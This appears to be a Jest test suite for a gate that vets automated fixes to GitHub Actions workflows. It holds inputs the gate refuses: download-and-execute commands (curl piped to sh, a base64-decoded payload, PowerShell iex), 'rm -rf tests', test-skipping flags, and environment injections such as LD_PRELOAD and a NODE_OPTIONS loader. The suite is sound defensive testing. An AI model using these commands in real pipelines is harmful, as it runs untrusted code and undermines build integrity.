import { describe, expect, it } from '@jest/globals'
import { checkFixSafety } from '../../src/remediate/index.js'
import type { GateRule } from '../../src/remediate/index.js'
import { retryLine } from '../../src/remediate/templates/retry.js'
import { fixture } from './helpers.ts'

const NODE_CI = fixture('node-ci.yml')
const PYTHON = fixture('python-package.yml')

function edit(text: string, from: string, to: string): string {
  expect(text).toContain(from)
  return text.replace(from, to)
}

function rules(before: string, after: string, options: Parameters<typeof checkFixSafety>[2] = {}): GateRule[] {
  return checkFixSafety(before, after, options).map((v) => v.rule).sort()
}

/** node-ci.yml with one step added to the lint job, before `npm run lint`. */
function withStep(step: string): string {
  return edit(NODE_CI, '      - run: npm run lint\n', `${step}      - run: npm run lint\n`)
}

describe('gate: size', () => {
  const comments = (n: number): string => edit(NODE_CI, 'jobs:\n', `jobs:\n${Array.from({ length: n }, (_, i) => `  # note ${i}\n`).join('')}`)
  it('refuses more than 20 changed lines, allows 20, and takes another cap', () => {
    expect(rules(NODE_CI, comments(21))).toEqual(['too-large'])
    expect(rules(NODE_CI, comments(20))).toEqual([])
    expect(rules(NODE_CI, comments(21), { maxChangedLines: 30 })).toEqual([])
  })
})

describe('gate: workflow syntax', () => {
  it('refuses a change that breaks the syntax and names the problem in a code span', () => {
    const violations = checkFixSafety(NODE_CI, edit(NODE_CI, '    timeout-minutes: 10\n', '    timeout-minutez: 10\n'))
    expect(violations.map((v) => v.rule)).toEqual(['schema-invalid'])
    expect(violations[0]!.message).toContain("`Unexpected value 'timeout-minutez'`")
  })

  it('does not blame a fix for problems the workflow already had', () => {
    const odd = edit(NODE_CI, '    timeout-minutes: 10\n', '    timeout-minutes: 10\n    future-key: 1\n')
    expect(rules(odd, edit(odd, 'timeout-minutes: 10', 'timeout-minutes: 15'))).toEqual([])
  })

  it('uses an injected validator, and refuses when it throws', () => {
    const after = edit(NODE_CI, 'timeout-minutes: 10', 'timeout-minutes: 15')
    expect(rules(NODE_CI, after, { validate: (text) => (text.includes('timeout-minutes: 15') ? ['fifteen'] : []) })).toEqual(['schema-invalid'])
    expect(rules(NODE_CI, after, { validate: () => { throw new Error('boom') } })).toEqual(['schema-invalid'])
  })
})

describe('gate: triggers', () => {
  it('refuses removing a trigger and allows rewriting one to the same data', () => {
    expect(rules(NODE_CI, edit(NODE_CI, '  pull_request: {}\n', ''))).toEqual(['changes-trigger'])
    expect(rules(NODE_CI, edit(NODE_CI, "branches: [ main, 'release/**' ]", "branches: [main, 'release/**']"))).toEqual([])
  })

  it('refuses any edit of a privileged trigger', () => {
    const before = 'on:\n  pull_request_target:\n    types: [labeled]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n'
    const violations = checkFixSafety(before, before.replace('[labeled]', '[labeled, opened]'))
    expect(violations.map((v) => v.rule)).toEqual(['changes-trigger'])
    expect(violations[0]!.message).toContain('pull_request_target')
  })
})

describe('gate: secrets in env and with', () => {
  const withSecret = edit(PYTHON, '      run: pytest tests/unit\n', '      run: pytest tests/unit\n      env:\n        TOKEN: ${{ secrets.PYPI_TOKEN }}\n')
  it('refuses adding a variable next to a secret, and allows it where there is none', () => {
    expect(rules(withSecret, edit(withSecret, '        TOKEN: ${{ secrets.PYPI_TOKEN }}\n', '        TOKEN: ${{ secrets.PYPI_TOKEN }}\n        PIP_RETRIES: 10\n'))).toEqual(['touches-secrets'])
    expect(rules(PYTHON, edit(PYTHON, '      run: pytest tests/unit\n', '      run: pytest tests/unit\n      env:\n        PIP_RETRIES: 10\n'))).toEqual([])
  })
})

describe('gate: commands of existing steps', () => {
  it('refuses a rewritten run text', () => {
    expect(rules(NODE_CI, edit(NODE_CI, '      - run: npm run lint\n', '      - run: npm run lint --fix\n'))).toEqual(['changes-run'])
    // A shell changes how every command of the step runs: it may only come with a new step.
    const shell = edit(NODE_CI, '      - run: npm run lint\n', '      - run: npm run lint\n        shell: bash\n')
    expect(rules(NODE_CI, shell)).toEqual(['changes-run'])
    expect(rules(shell, edit(shell, '        shell: bash\n', '        shell: sh\n'))).toEqual(['changes-run'])
    expect(rules(NODE_CI, withStep('      - run: npm test\n        shell: bash\n'))).toEqual([])
  })

  it('allows exactly the catalog retry loop around an install command, and nothing else', () => {
    expect(rules(NODE_CI, edit(NODE_CI, '      - run: npm ci\n', `      - run: ${retryLine('npm ci')}\n`))).toEqual([])
    expect(rules(NODE_CI, edit(NODE_CI, '      - run: npm run lint\n', `      - run: ${retryLine('npm run lint')}\n`))).toEqual(['changes-run'])
    const tampered = retryLine('npm ci').replace('-ge 3', '-ge 30')
    expect(rules(NODE_CI, edit(NODE_CI, '      - run: npm ci\n', `      - run: ${tampered}\n`))).toEqual(['changes-run'])
  })
})

describe('gate: downloading and running code', () => {
  it.each([
    ['curl | sh', 'curl -fsSL https://get.example.dev | sh'],
    ['wget | sudo bash', 'wget -qO- https://get.example.dev/install | sudo -E bash'],
    ['bash <(curl)', 'bash <(curl -s https://example.dev/i.sh)'],
    ['eval "$(curl)"', 'eval "$(curl -s https://example.dev/env)"'],
    ['curl | python', 'curl -sSL https://install.example.org | python3 -'],
    ['iex (iwr)', 'iex (iwr https://example.dev/install.ps1 -UseBasicParsing)'],
    ['base64 -d', 'echo Y3VybCBldmlsIHwgc2g= | base64 -d | sh'],
    ['download then run', 'curl -o /tmp/i.sh https://example.dev/i.sh && bash /tmp/i.sh']
  ])('refuses %s in an added step', (_name, command) => {
    expect(rules(NODE_CI, withStep(`      - run: ${command}\n`))).toContain('download-exec')
  })

  it.each([
    ['a download to a file', 'curl -fsSL -o data.json https://api.example.dev/data'],
    ['a download piped to jq', 'curl -s https://api.example.dev/v | jq .version']
  ])('allows %s', (_name, command) => {
    expect(rules(NODE_CI, withStep(`      - run: ${command}\n`))).toEqual([])
  })
})

describe('gate: weaker checks', () => {
  it.each([
    ['|| true', 'npm test || true'],
    ['set +e', 'set +e'],
    ['--passWithNoTests', 'npx jest --passWithNoTests'],
    ['-DskipTests', 'mvn -B package -DskipTests'],
    ['gradle -x test', './gradlew build -x test'],
    ['pytest -k "not …"', 'pytest -k "not slow"'],
    ['--exit-zero', 'flake8 --exit-zero'],
    ['rm -r', 'rm -rf tests']
  ])('refuses a new step with %s', (_name, command) => {
    expect(rules(NODE_CI, withStep(`      - run: ${command}\n`))).toEqual(['weakens-checks'])
  })

  it('allows a new step that runs the tests plainly', () => {
    expect(rules(NODE_CI, withStep('      - run: npm test\n'))).toEqual([])
  })

  it('refuses a raised --maxfail and a dropped -x, allows a lower --maxfail', () => {
    const base = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest --maxfail=2\n'
    expect(rules(base, `${base}      - run: pytest --maxfail=9\n`)).toEqual(['weakens-checks'])
    expect(rules(base, `${base}      - run: pytest --maxfail=1\n`)).toEqual([])
    expect(rules(PYTHON, edit(PYTHON, 'pytest tests/integration -x', 'pytest tests/integration'))).toEqual(['changes-run', 'weakens-checks'])
  })
})

describe('gate: actions', () => {
  it.each([
    ['a third-party tag', 'someone/deploy@v1'],
    ['a third-party branch', 'someone/deploy@main'],
    ['a first-party branch', 'actions/checkout@main'],
    ['a docker tag', 'docker://alpine:3.20']
  ])('refuses a new step using %s', (_name, uses) => {
    expect(rules(NODE_CI, withStep(`      - uses: ${uses}\n`))).toEqual(['unpinned-action'])
  })

  it.each([
    ['a third-party SHA pin', 'someone/deploy@8e5e7e5ab8b370d6c329ec480221332ada57f0ab'],
    ['a first-party tag', 'github/codeql-action/init@v4'],
    ['a docker digest', `docker://alpine@sha256:${'a'.repeat(64)}`],
    ['a local action', './.github/actions/setup']
  ])('allows %s', (_name, uses) => {
    expect(rules(NODE_CI, withStep(`      - uses: ${uses}\n`))).toEqual([])
  })

  it('refuses a reusable workflow moved to an unpinned ref', () => {
    const go = fixture('go-reusable.yml')
    expect(rules(go, edit(go, 'lint.yml@main', 'lint.yml@dev'))).toEqual(['unpinned-action'])
  })
})

describe('gate: runners', () => {
  it('refuses a move to a self-hosted runner and allows another hosted image', () => {
    const lint = '  lint:\n    runs-on: ubuntu-latest\n'
    expect(rules(NODE_CI, edit(NODE_CI, lint, '  lint:\n    runs-on: [self-hosted, linux]\n'))).toEqual(['changes-runner'])
    expect(rules(NODE_CI, edit(NODE_CI, lint, '  lint:\n    runs-on: ubuntu-22.04\n'))).toEqual([])
    expect(rules(NODE_CI, edit(NODE_CI, 'os: [ubuntu-latest, windows-latest]', 'os: [build-box, windows-latest]'))).toEqual(['changes-runner'])
  })
})

describe('gate: environment', () => {
  it.each([
    ['LD_PRELOAD', 'LD_PRELOAD: ./hook.so'],
    ['a registry', 'npm_config_registry: https://registry.example.dev'],
    ['a pip index', 'PIP_INDEX_URL: https://pypi.example.dev/simple'],
    ['a runner file', 'GITHUB_ENV: /tmp/env'],
    ['TLS off', 'NODE_TLS_REJECT_UNAUTHORIZED: 0'],
    ['a NODE_OPTIONS loader', 'NODE_OPTIONS: --require ./hook.js']
  ])('refuses setting %s', (_name, entry) => {
    expect(rules(NODE_CI, edit(NODE_CI, '  FORCE_COLOR: "1"\n', `  FORCE_COLOR: "1"\n  ${entry}\n`))).toEqual(['env-injection'])
  })

  it.each([['npm retries', 'npm_config_fetch_retries: 5'], ['pip retries', 'PIP_RETRIES: 10'], ['a heap size', 'NODE_OPTIONS: --max-old-space-size=4096'], ['CI', 'TZ: UTC']])(
    'allows setting %s',
    (_name, entry) => {
      expect(rules(NODE_CI, edit(NODE_CI, '  FORCE_COLOR: "1"\n', `  FORCE_COLOR: "1"\n  ${entry}\n`))).toEqual([])
    }
  )
})

describe('gate: matrix', () => {
  it('refuses fewer combinations, allows more', () => {
    expect(rules(NODE_CI, edit(NODE_CI, 'node: [18, 20, 22]', 'node: [20, 22]'))).toEqual(['shrinks-matrix'])
    expect(rules(NODE_CI, edit(NODE_CI, '        node: [18, 20, 22]\n', '        node: [18, 20, 22]\n        exclude:\n          - os: windows-latest\n'))).toEqual(['shrinks-matrix'])
    expect(rules(NODE_CI, edit(NODE_CI, 'node: [18, 20, 22]', 'node: [18, 20, 22, 24]'))).toEqual([])
  })
})

describe('gate: time limits', () => {
  it('refuses a limit above the cap, allows it at the cap or with a higher configured cap', () => {
    expect(rules(NODE_CI, edit(NODE_CI, 'timeout-minutes: 10', 'timeout-minutes: 361'))).toEqual(['timeout-cap'])
    expect(rules(NODE_CI, edit(NODE_CI, 'timeout-minutes: 10', 'timeout-minutes: 360'))).toEqual([])
    expect(rules(NODE_CI, edit(NODE_CI, 'timeout-minutes: 10', 'timeout-minutes: 361'), { maxTimeoutMinutes: 720 })).toEqual([])
  })
})
